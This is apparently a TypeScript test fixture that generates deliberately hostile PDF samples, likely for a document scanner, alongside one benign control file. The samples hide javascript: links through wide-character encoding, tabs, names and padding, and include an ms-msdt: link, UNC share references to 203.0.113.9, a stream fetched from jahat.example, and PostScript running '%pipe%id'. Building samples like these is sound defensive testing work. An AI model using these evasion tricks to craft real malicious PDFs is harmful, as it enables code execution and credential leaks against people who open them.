import { pdfOf, stream } from '../make-pdf.ts';
import type { Make } from './make.ts';

const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`;
const linkTo = (address: string) => pdfOf({ page: link(`/S /URI /URI ${address}`) });
const openSite = '<< /S /URI /URI (https://slot.example/) >>';

/** PDFs whose addresses lead astray in a spelling of their own, or that act where a number hides it. */
export const strayPdfs: Readonly<Record<string, Make>> = {
  'pdf that opens a site, with a remark in the number': () =>
    Buffer.from(
      pdfOf({ catalog: '/OpenAction 5 0 R', objects: [openSite] })
        .toString('latin1')
        .replace('5 0 obj\n', '5 0 %c\nobj'),
      'latin1',
    ),
  'pdf that opens a site over two references': () =>
    pdfOf({ catalog: '/OpenAction 5 0 R', objects: ['6 0 R', openSite] }),
  'pdf page that acts by a number without an object': () => pdfOf({ page: '/AA 77 0 R' }),
  'pdf whose links all begin with a scheme': () =>
    pdfOf({ catalog: '/URI << /Base (javascript:) >>', page: link('/S /URI /URI (alert)') }),
  'pdf link that runs, in wide letters': () =>
    linkTo('<FEFF006A006100760061007300630072006900700074003A0061>'),
  'pdf link that runs, with a tab in it': () => linkTo('(java\\tscript:alert\\(1\\))'),
  'pdf link that runs, by a name': () => linkTo('/javascript:alert'),
  'pdf link that runs, behind many spaces': () => linkTo(`(${' '.repeat(5000)}javascript:a)`),
  'pdf link to a program of the system': () => linkTo('(ms-msdt:/id)'),
  'pdf link to a share with slashes': () => linkTo('(//203.0.113.9/a)'),
  'pdf stream that lies on a share': () =>
    pdfOf({ objects: [stream('/F (\\\\\\\\203.0.113.9\\\\a)', '')] }),
  'pdf stream that is fetched': () =>
    pdfOf({ objects: [stream('/F << /FS /URL /F (https://jahat.example/a) >>', '')] }),
  'pdf thread in a file on a share': () =>
    pdfOf({ page: link('/S /Thread /F (\\\\\\\\203.0.113.9\\\\a.pdf) /D 0') }),
  'pdf film whose kind stands elsewhere': () =>
    pdfOf({ page: '/Annots [<< /Subtype 5 0 R >>]', objects: ['/Movie'] }),
  'pdf with PostScript': () =>
    pdfOf({ objects: [stream('/Type /XObject /Subtype /PS', '(%pipe%id) (w) file')] }),

  'pdf with links of every day': () =>
    pdfOf({
      page: `/Annots [${[
        'www.palukota.go.id:8080/a',
        'mailto:humas@palukota.go.id',
        'tel:+62451421234',
        'lampiran.pdf',
        '#bab',
        'https://palukota.go.id/a?b=c:d',
      ]
        .map((to) => `<< /Subtype /Link /A << /S /URI /URI (${to}) >> >>`)
        .join(' ')}]`,
      objects: ['<< /Type /Filespec /F (lampiran.pdf) /UF (lampiran.pdf) >>'],
    }),
};
